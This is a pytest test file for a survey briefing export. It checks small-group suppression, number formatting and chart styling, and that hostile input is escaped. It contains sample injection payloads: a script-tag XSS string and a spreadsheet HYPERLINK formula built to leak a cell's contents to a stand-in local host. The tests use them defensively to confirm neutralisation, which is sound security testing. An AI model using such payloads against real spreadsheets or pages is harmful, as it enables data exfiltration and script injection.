"""The briefing export: self-contained HTML and CSV tables, with small groups showing no number."""

import io
import re
import zipfile
from datetime import date

import pandas as pd
from pulse_builders import add_wave, answers

from research.findings.actions import create_action
from research.findings.briefing import briefing_csv_zip, build_briefing
from research.privacy.reporting import Thresholds
from research.store.engine import session_scope

FIVE = Thresholds(scores=5, comments=10)


def crafted_wave(engine):
    """Teams of 1, 4, 5 and 9 responses whose answers are easy to spot if they leaked."""
    with session_scope(engine) as session:
        return add_wave(session, "Crafted", date(2026, 9, 1), {
            "One": answers(1, morale=1, enps=0, recovery_share=97),
            "Four": answers(4, morale=5, enps=10, recovery_share=93),
            "Five": answers(5, morale=2, recovery_share=60),
            "Nine": answers(9, morale=3, recovery_share=40),
        })


def test_small_teams_show_no_number_in_the_html_or_the_csv(engine):
    wave = crafted_wave(engine)
    with session_scope(engine) as session:
        briefing = build_briefing(session=session, wave_id=wave, job_id=None, thresholds=FIVE)
    teams = briefing.tables["heatmap_team"].set_index("team")
    for small in ("One", "Four"):
        row = teams.loc[small].drop(["note"])
        assert row.isna().all(), row
        assert teams.loc[small, "note"] == "fewer than 5 responses"
    assert teams.loc["Nine", "responses"] == 9
    # Their recovery shares (97 and 93, or the 94 they average to) appear nowhere.
    text = re.sub(r"<svg.*?</svg>", "", briefing.html, flags=re.S)  # chart coordinates are not figures
    assert not re.search(r"\b9[347](\.0+)?\b", text)
    with zipfile.ZipFile(io.BytesIO(briefing_csv_zip(briefing.tables))) as archive:
        heat = pd.read_csv(archive.open("heatmap_team.csv")).set_index("Team")
        assert heat.loc[["One", "Four"]].drop(columns=["Note"]).isna().all().all()
        assert sorted(archive.namelist()) == ["heatmap_team.csv", "kpis.csv", "trend.csv"]


def test_the_html_makes_no_request_and_escapes_what_people_typed(engine, analysed_demo):
    demo, job_id = analysed_demo
    with session_scope(demo) as session:
        create_action(session=session, theme="tools", title="<script>alert(1)</script> =HYPERLINK(\"x\")",
                      owner="Ops", due_on=None, published=True, created_by="exec")
        from research.pulse.waves import latest_reportable_wave
        wave = latest_reportable_wave(session=session, threshold=5)
        briefing = build_briefing(session=session, wave_id=wave, job_id=job_id, thresholds=FIVE)
    page = briefing.html
    assert "<script>alert(1)</script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    # Nothing is fetched and nothing runs: no script at all, no src or href pointing anywhere. The browser test
    # opens the file with the network watched.
    assert "<script" not in page
    assert not re.search(r"""(src|href)\s*=\s*["']?(https?:)?//""", page)
    assert "@import" not in page
    assert "Tools and systems: raised in" in page and "Emergent topics" in page
    # the topics' tone, overall and in the latest wave, as on the Topic explorer (a walk missed it in the briefing)
    topics_table = page[page.index("Emergent topics"):]
    assert "<th>Mean sentiment</th>" in topics_table and "<th>Latest wave</th>" in topics_table
    with zipfile.ZipFile(io.BytesIO(briefing_csv_zip(briefing.tables))) as archive:
        actions = archive.read("actions.csv").decode()
        headers = {name: pd.read_csv(archive.open(name), nrows=0).columns.tolist() for name in archive.namelist()}
    assert ",'<script>" not in actions and "<script>alert(1)</script> =HYPERLINK" in actions
    # Column names an executive reads in a spreadsheet: no internal names such as enps_diff or opens_on.
    assert {"gaps.csv", "topics.csv", "trend.csv"} <= set(headers)
    assert "eNPS difference (points)" in headers["gaps.csv"] and "Management support" in headers["trend.csv"]
    assert not [(n, c) for n, cs in headers.items() for c in cs if "_" in c or c[:1].islower() and c[:4] != "eNPS"]


FORMULA = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Click for bonus")'
LINK = '<a href="http://127.0.0.1:9/bonus">Nine</a>'


def hostile_briefing(engine):
    """A wave whose team names are a formula, a link and an image, and an action typed as formulas."""
    with session_scope(engine) as session:
        wave = add_wave(session, "Hostile", date(2026, 9, 1), {
            FORMULA: answers(9, morale=3), LINK: answers(9, morale=4), "@SUM(1+1)": answers(1, morale=1),
            "![x](http://127.0.0.1:9/p.png)": answers(2, morale=2),
        })
        create_action(session=session, theme="tools", title=FORMULA, owner="+44 20 7946 0000", due_on=None,
                      published=True, created_by="-exec")
        return build_briefing(session=session, wave_id=wave, job_id=None, thresholds=FIVE)


def test_no_cell_of_the_briefing_zip_can_run_as_a_formula(engine):
    import csv

    briefing = hostile_briefing(engine)
    with zipfile.ZipFile(io.BytesIO(briefing_csv_zip(briefing.tables))) as archive:
        assert {"heatmap_team.csv", "actions.csv"} <= set(archive.namelist())
        cells = {name: [cell for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8"), newline=""))
                        for cell in row] for name in archive.namelist()}
    runnable = [(name, c) for name, found in cells.items() for c in found if c.startswith(("=", "+", "-", "@"))]
    assert runnable == []
    assert "'" + FORMULA in cells["heatmap_team.csv"] and "'" + FORMULA in cells["actions.csv"]


def test_names_typed_as_html_are_text_in_the_briefing_and_its_charts(engine):
    page = hostile_briefing(engine).html
    assert not re.search(r"<a[\s>]|<img[\s>]", page, re.I)  # neither in the tables nor in the charts
    assert "&lt;a href=" in page  # the name is there, as text


def test_the_demo_briefing_is_small_reads_headline_first_and_has_no_raw_values(analysed_demo):
    demo, job_id = analysed_demo
    with session_scope(demo) as session:
        from research.findings.representative import representative_wave

        wave = representative_wave(session=session, thresholds=FIVE)
        briefing = build_briefing(session=session, wave_id=wave, job_id=job_id, thresholds=FIVE)
    page = briefing.html
    assert len(page.encode("utf-8")) < 1_000_000
    # Two briefings of one day can differ after a re-run: each says which analysis it shows, as the pages do.
    assert re.search(rf"Themes, gaps and topics: from the analysis finished \d\d \w{{3}} \d{{4}} at \d\d:\d\d UTC "
                     rf"\(job {job_id}\)\.", page)
    # Headline and focus areas, then charts, then the detail.
    order = [page.index(h) for h in ("<h2>Headline</h2>", "<h2>Focus areas</h2>", "<h2>Charts</h2>",
                                     "<h2>Detail</h2>")]
    assert order == sorted(order)
    assert "1. Tools and systems" in page or "2. Tools and systems" in page
    assert "Worst in Utilities Billing" in page
    # an action's due note as the start page words it: the briefing dropped "overdue" (an outside walk)
    assert "Hire four more agents for Tech Support L1 (in progress, Workforce planning, overdue since 30 September " \
           "2026)" in page
    text = re.sub(r"<svg.*?</svg>", "", page, flags=re.S)
    for raw in ("&lt;NA&gt;", "<NA>", "nan", "-0.00", " 1 points", "interval_low", "management_support"):
        assert raw not in text, raw
    assert not re.search(r"\d\.\d{3,}", text)  # rounded figures
    with zipfile.ZipFile(io.BytesIO(briefing_csv_zip(briefing.tables))) as archive:
        for name in archive.namelist():
            assert not re.search(r"\d\.\d{4,}", archive.read(name).decode()), name


def test_scores_by_wave_read_like_the_app_and_a_wave_without_figures_says_why(analysed_demo):
    demo, job_id = analysed_demo
    with session_scope(demo) as session:
        from research.findings.representative import representative_wave

        create_action(session=session, theme="tools", title="Fix the search screen", owner="Head of IT",
                      due_on=None, status="planned", published=False, created_by="rita")
        session.flush()
        wave = representative_wave(session=session, thresholds=FIVE)
        page = build_briefing(session=session, wave_id=wave, job_id=job_id, thresholds=FIVE).html
    table = page[page.index("<h3>Scores by wave</h3>"):]
    header = re.findall(r"<th>([^<]*)</th>", table)
    rows = [dict(zip(header, re.findall(r"<td[^>]*>([^<]*)</td>", row)))
            for row in re.findall(r"<tr>(.*?)</tr>", table)[1:]]
    shown = [r for r in rows if r["eNPS"]]
    assert shown and all(re.fullmatch(r"[-+]?\d+", r["eNPS"]) for r in shown)  # whole points, not -52.31
    assert all(re.fullmatch(r"\d+ %", r["Recovery share"]) for r in shown)
    assert all(re.fullmatch(r"\d\.\d\d", r["Morale"]) for r in shown)
    assert all(re.fullmatch(r"[\d,]+", r["Responses"]) for r in shown)  # 216, not 216.00
    assert [r["Note"] for r in rows if not r["eNPS"]] == ["No figures to show yet: the wave is open or has fewer "
                                                        "than 5 answers."]  # the open wave
    actions = page[page.index("<h3>Actions: you said, we did</h3>"):page.index("<h3>Scores by wave</h3>")]
    assert "<td>Planned</td>" in actions and "<td>no</td>" in actions and "False" not in actions


def test_chart_lines_differ_in_colour_and_in_dash_and_marker(analysed_demo):
    demo, job_id = analysed_demo
    with session_scope(demo) as session:
        briefing = build_briefing(session=session, wave_id=3, job_id=job_id, thresholds=FIVE)
    charts = re.findall(r"<svg.*?</svg>", briefing.html, flags=re.S)
    assert len(charts) == 3
    for chart in charts:
        lines = re.findall(r'<polyline[^>]*stroke="(#[0-9A-Fa-f]{6})"(?: stroke-width="[\d.]+")?'
                           r'(?: stroke-dasharray="([^"]*)")?', chart)
        colours = [colour for colour, _ in lines]
        dashes = [dash for _, dash in lines]
        assert len(set(colours)) == len(colours) >= 2 and len(set(dashes)) == len(dashes)
        assert {c.lower() for c in colours} != {"#000000"}


def test_two_emergent_topics_with_the_same_label_each_keep_their_own_line():
    from research.findings.briefing import _topic_lines

    over = pd.DataFrame({"topic": [3, 3, 7, 7], "label": ["Rota changes"] * 4, "wave": ["W1", "W2", "W1", "W2"],
                         "share": [0.10, 0.20, 0.05, 0.04]})
    lines = _topic_lines(over)
    assert list(lines) == ["Rota changes", "Rota changes (2)"]
    assert lines["Rota changes"].to_dict() == {"W1": 0.10, "W2": 0.20}
    assert lines["Rota changes (2)"].to_dict() == {"W1": 0.05, "W2": 0.04}


def test_the_headline_csv_holds_numbers_a_spreadsheet_can_sum(engine, analysed_demo):
    demo, job_id = analysed_demo
    with session_scope(demo) as session:
        from research.pulse.waves import latest_reportable_wave
        wave = latest_reportable_wave(session=session, threshold=5)
        briefing = build_briefing(session=session, wave_id=wave, job_id=job_id, thresholds=FIVE)
    with zipfile.ZipFile(io.BytesIO(briefing_csv_zip(briefing.tables))) as archive:
        kpis = pd.read_csv(archive.open("kpis.csv")).set_index("Measure")
    assert pd.api.types.is_numeric_dtype(kpis["Score"]) and pd.api.types.is_numeric_dtype(kpis["Change"])
    assert kpis["Unit"].tolist().count("out of 5") >= 3 and "points" in kpis["Unit"].tolist()
    enps = kpis[kpis["Unit"] == "points"].iloc[0]
    assert -100 <= enps["Score"] <= 100 and enps["95 % interval, low"] <= enps["Score"] <= enps["95 % interval, high"]
    assert re.search(r"[+-]\d+ points|\d\.\d\d /5", briefing.html)  # the briefing itself still reads as text


def test_a_briefing_of_a_wave_just_opened_says_its_focus_areas_come_from_an_earlier_wave(analysed_demo):
    from sqlalchemy import select

    from research.store.models import PulseWave

    demo, job_id = analysed_demo
    with session_scope(demo) as session:
        opened = session.scalar(select(PulseWave).where(PulseWave.title.like("%open now%")))
        briefing = build_briefing(session=session, wave_id=opened.id, job_id=job_id, thresholds=FIVE)
        title = opened.title
    assert f"Frontline briefing: {title}" in briefing.html
    assert re.search(r"They come from Pulse wave 3 \(.*?\), the latest analysed wave up to this one with figures to "
                     rf"show, not from {re.escape(title)}\.", briefing.html)


def test_a_briefing_of_an_earlier_wave_tells_its_gaps_and_topics_up_to_that_wave(analysed_demo):
    """An outside walk read a briefing of wave 3 whose detail and topics came from the open wave 4."""
    from research.findings.gap_data import gap_table
    from research.store.models import PulseWave

    demo, job_id = analysed_demo
    with session_scope(demo) as session:
        gaps = gap_table(session=session, job_id=job_id, thresholds=Thresholds())
        analysed = gaps.sort_values("opens_on")["wave_id"].unique()
        earlier = session.get(PulseWave, int(analysed[-2]))  # the wave before the latest analysed one
        briefing = build_briefing(session=session, wave_id=earlier.id, job_id=job_id, thresholds=Thresholds())
    in_wave = gaps[gaps["wave_id"] == earlier.id]
    told = briefing.tables["gaps"]
    assert len(told) and set(told["theme"]) <= set(in_wave["name"])
    shares = dict(zip(in_wave["name"], in_wave["share"].round(3)))
    assert all(shares[row.theme] == row.share for row in told.itertuples())
    assert f"Frontline briefing: {earlier.title}" in briefing.html
